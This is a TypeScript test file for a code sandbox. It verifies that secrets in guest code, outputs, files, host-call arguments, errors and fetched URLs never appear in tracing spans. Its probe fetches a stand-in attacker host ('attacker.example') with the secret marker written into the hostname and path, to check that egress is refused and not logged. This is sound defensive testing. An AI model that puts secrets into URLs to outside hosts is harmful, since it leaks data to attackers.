// Threat: a run's secrets leave the process through its traces. Spans go to a collector and whoever
// reads it; a guest's code, values, output, files, host-call arguments or the URLs it fetches (or an
// application's host-function error) must never become a span's name, status, attribute or event.
// Each engine runs code carrying a marker everywhere it can put one, under the caller's traceparent;
// the marker must reach the result and the event channel (so the probe really carried it past the
// tracing room) and appear in no span.
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { after, before, describe, it } from "node:test";
import { createSandbox, type Sandbox } from "../../src/index.ts";
import type { SandboxEvent } from "../../src/core/events.ts";
import type { RunResult } from "../../src/core/types.ts";
import { SPANS } from "../../src/kit/trace.ts";
import { startHttpServer, type TestServer } from "../helpers/http.ts";
import { FULL } from "../helpers/pyodide.ts";
import { parentOf, recordSpans, spanText, type Recorder } from "../helpers/trace.ts";

const MARKER = `wcsecret${randomBytes(6).toString("hex")}`;
const TRACE = randomBytes(16).toString("hex");
const PARENT = randomBytes(8).toString("hex");
const TRACEPARENT = `00-${TRACE}-${PARENT}-01`;

let rec: Recorder;
let server: TestServer;
let sandbox: Sandbox;
const events: SandboxEvent[] = [];

before(async () => {
  rec = recordSpans();
  server = await startHttpServer();
  sandbox = await createSandbox({
    python: { pool: 1 },
    seal: FULL,
    network: { allow: [`127.0.0.1:${server.port}`] },
    onEvent: (e) => events.push(e),
    javascript: {
      hostFunctions: {
        remember: (args: unknown[]) => ({ stored: args }),
        refuse: () => {
          throw new Error(`the application refuses ${MARKER}`);
        },
      },
    },
  });
});
after(async () => {
  await sandbox.close();
  await server.close();
  await rec.close();
});

/** The URLs a probe fetches: the marker in the path, the query, and a refused host's name. */
const urls = () => [
  `${server.origin}/echo?token=${MARKER}#${MARKER}`,
  `${server.origin}/${MARKER}/page`,
  `http://${MARKER}.attacker.example/${MARKER}`,
];

/** The allowed server saw the marker in a query and a path (so the gate's spans saw those requests). */
function fetchedBoth(): void {
  const seen = server.requests.map((r) => r.url);
  assert.ok(seen.includes(`/echo?token=${MARKER}`), `the query request (${seen.join(", ")})`);
  assert.ok(seen.includes(`/${MARKER}/page`), `the path request (${seen.join(", ")})`);
  server.requests.length = 0;
}

/** Every span of this test's runs: none holds the marker, and all are one tree under TRACEPARENT. */
function checkSpans(results: RunResult[], expected: string[]): void {
  const everything = results
    .map((r) => [r.stdout, r.stderr, JSON.stringify(r.ok ? r.value : r.error)].join("\n"))
    .join("\n");
  assert.ok(everything.includes(MARKER), "the marker reached the results");
  const spans = rec.spans();
  for (const name of expected)
    assert.ok(
      spans.some((s) => s.name === name),
      `a ${name} span (got ${spans.map((s) => s.name).join(", ")})`,
    );
  for (const span of spans) {
    assert.equal(spanText(span).includes(MARKER), false, `${span.name}: ${spanText(span)}`);
    assert.equal(span.spanContext().traceId, TRACE, `${span.name} is in the caller's trace`);
  }
  const runs = spans.filter((s) => s.name === SPANS.run);
  const runIds = new Set(runs.map((s) => s.spanContext().spanId));
  for (const run of runs) assert.equal(parentOf(run), PARENT, "a run goes under the caller's span");
  for (const span of spans.filter((s) => s.name === SPANS.hostCall || s.name === SPANS.egress))
    assert.ok(runIds.has(parentOf(span) ?? ""), `${span.name} goes under its run`);
  if (expected.includes(SPANS.egress)) {
    const egress = events.filter((e) => e.type === "egress");
    assert.ok(
      egress.some((e) => e.host.includes(MARKER)),
      "the refused host reached the event channel through the tracing room",
    );
  }
  rec.reset();
  events.length = 0;
}

describe("quickjs", () => {
  it("code, value, output, files, host-call arguments, an error and URLs stay out of the spans", async () => {
    const code = `
// ${MARKER}
const secret = ${JSON.stringify(MARKER)};
console.log(secret); console.error(secret);
const kept = await remember(secret, { nested: secret });
let refused = ""; try { await refuse(secret) } catch (e) { refused = e.message }
const fetched = [];
for (const url of ${JSON.stringify(urls())}) {
  try { const r = await fetch(url); fetched.push(await r.text()) } catch (e) { fetched.push(e.message) }
}
({ secret, kept, refused, fetched, input: files })`;
    const ok = await sandbox.run({
      language: "javascript",
      code: code.replace("input: files", "input: 1"),
      files: { [`${MARKER}.txt`]: MARKER },
      traceparent: TRACEPARENT,
    });
    assert.equal(ok.ok, true, JSON.stringify(!ok.ok && ok.error));
    fetchedBoth();
    const thrown = await sandbox.run({
      language: "typescript",
      code: `const s: string = ${JSON.stringify(MARKER)}; throw new Error(s)`,
      traceparent: TRACEPARENT,
    });
    assert.equal(thrown.ok, false);
    checkSpans([ok, thrown], [SPANS.run, SPANS.hostCall, SPANS.egress]);
  });

  it("a session's state stays out of its snapshot and fork spans", async () => {
    const session = await sandbox.session({ language: "javascript" });
    const r = await session.run({
      code: `globalThis.kept = ${JSON.stringify(MARKER)}; kept`,
      traceparent: TRACEPARENT,
    });
    await session.snapshot();
    const copy = await session.fork();
    await copy.close();
    await session.close();
    // The snapshot and fork spans go under the caller's active context (none here): a trace of their own.
    for (const s of rec.spans().filter((s) => s.name !== SPANS.run))
      assert.equal(spanText(s).includes(MARKER), false, s.name);
    rec.reset();
    checkSpans([r], []);
  });
});

const pythonProbe = () => `
# ${MARKER}
import sys, urllib.request, urllib.error
secret = ${JSON.stringify(MARKER)}
print(secret); print(secret, file=sys.stderr)
open(secret + ".out", "w").write(secret)
read_back = open(${JSON.stringify(`${MARKER}.txt`)}).read()
fetched = []
for url in ${JSON.stringify(urls())}:
    try:
        fetched.append(urllib.request.urlopen(url).read().decode())
    except urllib.error.URLError as e:
        fetched.append(str(e.reason))
{"secret": secret, "read_back": read_back, "fetched": fetched}`;

for (const engine of ["pyodide", "native"] as const) {
  describe(engine, () => {
    it("code, value, output, files, an error and URLs stay out of the spans", async () => {
      const ok = await sandbox.run({
        language: "python",
        engine,
        code: pythonProbe(),
        files: { [`${MARKER}.txt`]: MARKER },
        traceparent: TRACEPARENT,
      });
      assert.equal(ok.ok, true, JSON.stringify(!ok.ok && ok.error));
      assert.ok(
        ok.files.some((f) => f.path.includes(MARKER)),
        "the run wrote a file named with the marker",
      );
      fetchedBoth();
      const thrown = await sandbox.run({
        language: "python",
        engine,
        code: `raise ValueError(${JSON.stringify(MARKER)})`,
        traceparent: TRACEPARENT,
      });
      assert.equal(thrown.ok, false);
      checkSpans([ok, thrown], [SPANS.run, SPANS.egress]);
    });
  });
}

describe("pyodide session", () => {
  it("a session's state stays out of its snapshot, fork and resume spans", async () => {
    const session = await sandbox.session({ language: "python", engine: "pyodide" });
    const r = await session.run({ code: `kept = ${JSON.stringify(MARKER)}\nkept`, traceparent: TRACEPARENT });
    const bytes = await session.snapshot();
    const copy = await session.fork();
    await copy.close();
    const resumed = await sandbox.resume(bytes);
    await resumed.close();
    await session.close();
    const names = rec.spans().map((s) => s.name);
    for (const name of [SPANS.snapshot, SPANS.fork, SPANS.resume]) assert.ok(names.includes(name), name);
    for (const s of rec.spans().filter((s) => s.name !== SPANS.run))
      assert.equal(spanText(s).includes(MARKER), false, s.name);
    rec.reset();
    checkSpans([r], []);
  });
});
